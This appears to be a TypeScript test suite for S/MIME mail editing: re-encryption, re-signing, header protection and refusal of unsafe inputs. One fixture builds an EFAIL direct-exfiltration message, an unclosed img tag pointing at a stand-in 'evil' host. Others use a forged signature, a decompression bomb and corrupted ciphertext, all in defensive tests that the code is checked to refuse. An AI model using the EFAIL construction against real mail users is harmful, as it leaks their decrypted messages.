import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openMessage, type MessageEdit } from '../../../../core/message/message.ts';
import { contentOf } from '../../../../core/message/content.ts';
import { compress } from '../../../../core/smime/compress.ts';
import { decrypt, readRecipientsOf } from '../../../../core/smime/decrypt.ts';
import { verifyPart, writePkcs7Mime } from '../../../../core/smime/entity.ts';
import type { Keystore } from '../../../../core/smime/keystore.ts';
import * as pki from '../pki.ts';
import * as kit from './kit.ts';

const ann = kit.somebody('ann@example.test');
const bob = kit.somebody('bob@example.test', pki.keys.rsa());
const carol = kit.somebody('carol@example.test');
const expired = kit.somebody('old@example.test', pki.keys.ec(), {
  notBefore: pki.noon - 9 * pki.day,
  notAfter: pki.noon - pki.day,
});
const nobody = kit.somebody('nobody@example.test');
let keystore: Keystore;
beforeAll(async () => {
  keystore = await kit.keystoreOf([ann, bob], [carol, expired]);
});
afterAll(() => keystore[Symbol.asyncDispose]());

const header = kit.headerOf(ann.address);
const rekey = { signed: ['resign'], encrypted: ['rekey'] } as const;
const cmsOf = (octets: Buffer): Buffer => contentOf(octets, openMessage(octets).root);

/** What somebody can read of a result. */
async function openFor(octets: Buffer, who: kit.Somebody): Promise<Buffer> {
  const opened = await decrypt(cmsOf(octets), [who]);
  if (opened.kind !== 'decrypted') throw new Error(`${who.address} cannot read it`);
  return opened.content;
}

/** For whom something is encrypted; CMS has no order. */
async function idsOf(octets: Buffer): Promise<readonly string[]> {
  const envelope = await readRecipientsOf(cmsOf(octets));
  return envelope.kind === 'enveloped' ? envelope.recipients.map((id) => JSON.stringify(id)).sort() : [];
}

const verdictOf = async (octets: Buffer): Promise<string> => {
  const found = await verifyPart(octets, openMessage(octets).root);
  return found.kind === 'signed' ? (found.signers[0]?.verdict.kind ?? '') : found.kind;
};

describe('rekey', () => {
  test.each(['aes-128-gcm', 'aes-256-gcm'] as const)(
    'of %s: the same recipients read what was edited, and nobody else does (R52, R53)',
    async (cipher) => {
      const octets = kit.messageOf(header, await kit.enveloped(kit.text(), [bob, carol, ann], cipher));
      const result = await kit.edit(octets, rekey, keystore);
      expect(result).toMatchObject({ kind: 'sealed', isDecrypted: true, record: { action: 'rekey', signers: [] } });
      const out = kit.octetsOf(result);
      for (const who of [ann, bob, carol]) expect((await openFor(out, who)).toString()).toContain('DISCLAIMER');
      expect(await readRecipientsOf(cmsOf(out))).toMatchObject({ cipher, authenticated: true });
      expect(await idsOf(out)).toEqual(await idsOf(octets));
      expect((await decrypt(cmsOf(out), [nobody])).kind).toBe('failed');
      expect(out.toString()).not.toContain('Hello Bob');
      expect(JSON.stringify('record' in result ? result.record : '')).not.toContain('Hello');
    },
  );

  test('keeps OAEP, and CBC where it may be kept at all', async () => {
    const padding = { kind: 'oaep', digest: 'sha256', label: new Uint8Array(0) } as const;
    const octets = kit.messageOf(header, await kit.enveloped(kit.text(), [{ ...bob, padding }], 'aes-128-cbc'));
    expect(await kit.edit(octets, rekey, keystore)).toMatchObject({
      kind: 'skip',
      record: { fallbacks: [{ action: 'rekey', reason: expect.stringContaining('EFAIL') }] },
    });
    const out = kit.octetsOf(await kit.edit(octets, { ...rekey, rekeyUnsigned: true }, keystore));
    expect(await readRecipientsOf(cmsOf(out))).toMatchObject({
      cipher: 'aes-128-cbc',
      paddings: [{ kind: 'oaep', digest: 'sha256' }],
    });
    expect((await openFor(out, bob)).toString()).toContain('DISCLAIMER');
  });

  test.each([
    ['clear', kit.clear],
    ['opaque', kit.opaque],
  ])('of CBC with a valid %s signature inside signs again inside (R54)', async (_, sign) => {
    const octets = kit.messageOf(
      header,
      await kit.enveloped(await sign(kit.alternative, [ann]), [bob, ann], 'aes-256-cbc'),
    );
    const result = await kit.edit(octets, rekey, keystore);
    expect(result).toMatchObject({
      record: { action: 'rekey', reason: expect.stringContaining('inside: resign'), signers: [{ verdict: 'valid' }] },
    });
    const inside = await openFor(kit.octetsOf(result), bob);
    expect(await verdictOf(inside)).toBe('valid');
    const found = await verifyPart(inside, openMessage(inside).root);
    const text = found.kind === 'signed' && found.content ? Buffer.from(found.content) : inside;
    expect(text.toString()).toContain('<p>DISCLAIMER</p>');
  });

  test.each([
    ['CBC with a signature that does not verify', async () => forged(), 'EFAIL'],
    [
      'CBC with a signature of somebody else',
      async () => kit.enveloped(await kit.clear(kit.text(), [carol]), [bob], 'aes-256-cbc'),
      'EFAIL',
    ],
    [
      'CBC with a signature beside other text',
      async () => kit.enveloped(await beside(), [bob], 'aes-256-cbc'),
      'EFAIL',
    ],
    [
      'recipients whose certificates are not known',
      async () => kit.enveloped(kit.text(), [bob, nobody]),
      '1 of 2 recipients',
    ],
    ['a recipient whose certificate has expired', async () => kit.enveloped(kit.text(), [bob, expired]), 'has expired'],
    ['no key of ours', async () => kit.enveloped(kit.text(), [carol]), 'no key of a recipient'],
    ['octets that were changed', async () => damaged(), 'cannot be decrypted'],
    ['something that is no entity', async () => kit.enveloped(Buffer.from('no header'), [bob]), 'no MIME entity'],
  ])('refuses %s (R50, R52, R54, R55)', async (_, entity, reason) => {
    const octets = kit.messageOf(header, await entity());
    const result = await kit.edit(octets, { ...rekey, encrypted: ['rekey', 'wrap'] }, keystore);
    expect(result).toMatchObject({
      kind: 'sealed',
      record: { action: 'wrap', fallbacks: [{ action: 'rekey', reason: expect.stringContaining(reason) }] },
    });
    expect(kit.octetsOf(result).includes(octets.subarray(octets.indexOf('\r\n\r\nMI')))).toBe(true);
  });

  test('refuses an encrypted part among others: they could quote it (EFAIL, direct exfiltration)', async () => {
    const octets = Buffer.from(
      `${header}Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/plain; name=a\r\n\r\n<img src="http://evil/\r\n--m\r\n` +
        `${(await kit.enveloped(kit.text(), [bob])).toString()}\r\n--m--\r\n`,
    );
    expect(await kit.edit(octets, rekey, keystore)).toMatchObject({
      kind: 'skip',
      record: { fallbacks: [{ action: 'rekey', reason: expect.stringContaining('EFAIL') }] },
    });
  });

  test('does what the policy for signed mail says inside, or nothing', async () => {
    const octets = kit.messageOf(header, await kit.enveloped(await kit.clear(kit.text(), [ann]), [bob]));
    expect(await kit.edit(octets, { encrypted: ['rekey'] }, keystore)).toMatchObject({
      kind: 'skip',
      record: { action: 'skip', fallbacks: [{ action: 'rekey', reason: expect.stringContaining('inside: signed') }] },
    });
    const wrapped = kit.octetsOf(await kit.edit(octets, { encrypted: ['rekey'], signed: ['wrap'] }, keystore));
    const inside = await openFor(wrapped, bob);
    expect(openMessage(inside).root.type).toBe('multipart/mixed');
    const stripped = kit.octetsOf(await kit.edit(octets, { encrypted: ['rekey'], signed: ['strip'] }, keystore));
    expect((await openFor(stripped, bob)).toString()).toMatch(/DISCLAIMER[\s\S]*was\s+signed\s+by/);
    expect(await kit.edit(octets, { encrypted: ['rekey'], signed: ['reject'] }, keystore)).toMatchObject({
      kind: 'reject',
    });
  });

  test('of a message wrapped three times, signed, encrypted and signed, does every layer again', async () => {
    const inner = await kit.clear(kit.text(), [ann]);
    const octets = kit.messageOf(header, await kit.opaque(await kit.enveloped(inner, [bob, ann]), [ann]));
    const result = await kit.edit(octets, rekey, keystore);
    expect(result).toMatchObject({ kind: 'sealed', record: { action: 'resign', signers: [{}, {}] } });
    const out = kit.octetsOf(result);
    const outer = await verifyPart(out, openMessage(out).root);
    expect(outer).toMatchObject({ signers: [{ verdict: { kind: 'valid' } }] });
    const middle = Buffer.from(outer.kind === 'signed' ? (outer.content ?? []) : []);
    const inside = await openFor(middle, bob);
    expect(await verdictOf(inside)).toBe('valid');
    expect(inside.toString()).toContain('DISCLAIMER');
  });

  test('falls back to wrap for the outer signature where what is inside cannot be opened', async () => {
    const octets = kit.messageOf(header, await kit.opaque(await kit.enveloped(kit.text(), [carol]), [ann]));
    const result = await kit.edit(octets, { ...rekey, signed: ['resign', 'strip', 'wrap'] }, keystore);
    expect(result).toMatchObject({ kind: 'sealed', record: { action: 'wrap' } });
    expect(result).toMatchObject({
      record: {
        fallbacks: ['resign', 'strip'].map((action) => ({ action, reason: expect.stringContaining('rekey: no key') })),
      },
    });
  });

  test('inflates what is compressed inside, and compresses it again (R56)', async () => {
    const packed = await writePkcs7Mime(await compress(kit.text()), 'compressed-data');
    const octets = kit.messageOf(header, await kit.enveloped(await kit.opaque(packed, [ann]), [bob]));
    const out = kit.octetsOf(await kit.edit(octets, rekey, keystore));
    const signed = await openFor(out, bob);
    const found = await verifyPart(signed, openMessage(signed).root);
    expect(found).toMatchObject({ signers: [{ verdict: { kind: 'valid' } }] });
    expect(Buffer.from(found.kind === 'signed' ? (found.content ?? []) : []).toString()).toContain('compressed-data');
  });

  test('refuses a bomb inside (R56)', async () => {
    const bomb = await compress(kit.text('a'.repeat(40 * 2 ** 20)));
    const packed = await writePkcs7Mime(bomb, 'compressed-data');
    const octets = kit.messageOf(header, await kit.opaque(packed, [ann]));
    const result = await kit.edit(octets, { signed: ['resign'] }, keystore);
    expect(result).toMatchObject({ kind: 'skip' });
    expect(JSON.stringify('record' in result ? result.record : '')).toContain('when inflated');
  });

  test('opens six protections inside one another, and no more', async () => {
    let entity = kit.text();
    for (let depth = 0; depth < 6; depth += 1) entity = await kit.opaque(entity, [ann]);
    expect(await kit.edit(kit.messageOf(header, entity), { signed: ['resign'] }, keystore)).toMatchObject({
      kind: 'sealed',
    });
    entity = await kit.opaque(entity, [ann]);
    const result = await kit.edit(kit.messageOf(header, entity), { signed: ['strip', 'explain', 'resign'] }, keystore);
    expect(result).toMatchObject({ kind: 'skip' });
    const fallbacks = 'record' in result ? result.record.fallbacks : [];
    expect(fallbacks.length).toBeLessThan(40);
  });
});

async function forged(): Promise<Buffer> {
  const signed = (await kit.clear(kit.text(), [ann])).toString('latin1').replace('signed.', 'forged.');
  return kit.enveloped(Buffer.from(signed, 'latin1'), [bob], 'aes-256-cbc');
}

async function beside(): Promise<Buffer> {
  const signed = await kit.clear(kit.text(), [ann]);
  return Buffer.concat([
    Buffer.from('Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nMallory\r\n--m\r\n'),
    signed,
    Buffer.from('\r\n--m--\r\n'),
  ]);
}

async function damaged(): Promise<Buffer> {
  const entity = await kit.enveloped(kit.text('x'.repeat(3000)), [bob]);
  entity[entity.length - 200] = entity[entity.length - 200] === 0x41 ? 0x42 : 0x41;
  return entity;
}

describe('header protection (RFC 9788, R57)', () => {
  const fields = `From: Ann <${ann.address}>\r\nSubject: Hello\r\n`;
  const hidden = `From: Ann <${ann.address}>\r\nSubject: The secret\r\nHP-Outer: Subject: [...]\r\n`;
  const body = 'Content-Type: text/plain; charset=utf-8; hp="clear"\r\n\r\nHello.\r\n';
  const setSubject: MessageEdit = { kind: 'set-field', name: 'Subject', value: 'New' };

  test.each([
    ['clear', kit.clear],
    ['opaque', kit.opaque],
  ])('a protected field of a %s-signed message is not edited for free', async (_, sign) => {
    const octets = kit.messageOf(header, await sign(Buffer.from(fields + body), [ann]));
    expect(await kit.edit(octets, {}, keystore, [setSubject])).toMatchObject({ kind: 'skip' });
    expect(await kit.edit(octets, { signed: ['wrap'] }, keystore, [setSubject])).toMatchObject({ kind: 'skip' });
    const free: MessageEdit = { kind: 'prepend-field', name: 'X-A', value: 'b' };
    expect(await kit.edit(octets, {}, keystore, [free])).toEqual({ kind: 'plain' });
  });

  test('signed again, the fields inside say what those outside say', async () => {
    const octets = kit.messageOf(header, await kit.clear(Buffer.from(fields + body), [ann]));
    const out = kit.octetsOf(await kit.edit(octets, { signed: ['resign'] }, keystore, [setSubject, kit.disclaimer]));
    expect(await verdictOf(out)).toBe('valid');
    const [inner] = openMessage(out).root.parts;
    const entity = openMessage(out.subarray(inner?.header.from, inner?.body.to));
    expect(entity.data('none').fields).toContainEqual(['Subject', 'New']);
    expect(openMessage(out).data('none').fields).toContainEqual(['Subject', 'New']);
  });

  test('strip drops fields that are outside too, and refuses to lose others', async () => {
    const same = kit.messageOf(header, await kit.clear(Buffer.from(fields + body), [ann]));
    const out = kit.octetsOf(await kit.edit(same, { signed: ['strip'] })).toString();
    expect(out.match(/^Subject:/gm)).toHaveLength(1);
    const other = kit.messageOf(header, await kit.clear(Buffer.from(hidden + body), [ann]));
    expect(await kit.edit(other, { signed: ['strip'] })).toMatchObject({ kind: 'skip' });
  });

  test('encrypted again, hidden fields stay as they are', async () => {
    const octets = kit.messageOf(header, await kit.enveloped(Buffer.from(hidden + body), [bob]));
    const inside = (await openFor(kit.octetsOf(await kit.edit(octets, rekey, keystore)), bob)).toString();
    expect(inside).toContain('Subject: The secret\r\n');
    const named = await kit.edit(octets, rekey, keystore, [setSubject, kit.disclaimer]);
    expect(named).toMatchObject({ kind: 'skip' });
  });

  test('a message as a whole, signed (RFC 8551 §3.1), is wrapped or left alone', async () => {
    const entity = Buffer.from(
      `Content-Type: message/rfc822\r\n\r\n${header}Content-Type: text/plain\r\n\r\nHello\r\n`,
    );
    const octets = kit.messageOf(header, await kit.clear(entity, [ann]));
    for (const action of ['strip', 'explain', 'resign'] as const)
      expect(await kit.edit(octets, { signed: [action] }, keystore)).toMatchObject({ kind: 'skip' });
    expect(await kit.edit(octets, { signed: ['wrap'] }, keystore)).toMatchObject({ kind: 'sealed' });
    expect(await kit.edit(octets, {}, keystore, [setSubject])).toMatchObject({ kind: 'skip' });
  });
});

describe('what is not opened', () => {
  const all = { signed: ['strip', 'explain', 'resign'], encrypted: ['rekey'] } as const;
  const pgp = {
    'PGP/MIME signed':
      'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=p\r\n\r\n--p\r\nContent-Type: text/plain\r\n\r\nx\r\n--p\r\nContent-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n--p--\r\n',
    'PGP/MIME encrypted':
      'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=p\r\n\r\n--p\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--p\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n--p--\r\n',
    'inline PGP': 'Content-Type: text/plain\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nx\r\n',
  };

  test.each(Object.entries(pgp))('%s is skipped or wrapped (R43)', async (_, entity) => {
    const octets = Buffer.from(header + entity);
    expect(await kit.edit(octets, all, keystore)).toMatchObject({ kind: 'skip' });
    const wrapped = kit.octetsOf(
      await kit.edit(octets, { signed: ['resign', 'wrap'], encrypted: ['rekey', 'wrap'] }, keystore),
    );
    expect(wrapped.includes(entity)).toBe(true);
    expect(await kit.edit(octets, all, keystore, [{ kind: 'prepend-field', name: 'X-A', value: 'b' }])).toEqual({
      kind: 'plain',
    });
  });

  test.each([
    ['octets that are no CMS', async () => Buffer.alloc(3)],
    ['compressed data that nobody signed', () => compress(kit.text())],
  ])('cryptography that cannot be read is skipped or rejected: %s', async (_, make) => {
    const body = (await make()).toString('base64');
    const octets = Buffer.from(
      `${header}Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n${body}\r\n`,
    );
    const wide = { signed: ['resign', 'strip', 'wrap'], encrypted: ['rekey', 'wrap'] } as const;
    expect(await kit.edit(octets, wide, keystore)).toMatchObject({ kind: 'skip' });
    expect(await kit.edit(octets, { ...wide, encrypted: ['rekey', 'reject'] }, keystore)).toMatchObject({
      kind: 'reject',
    });
  });
});
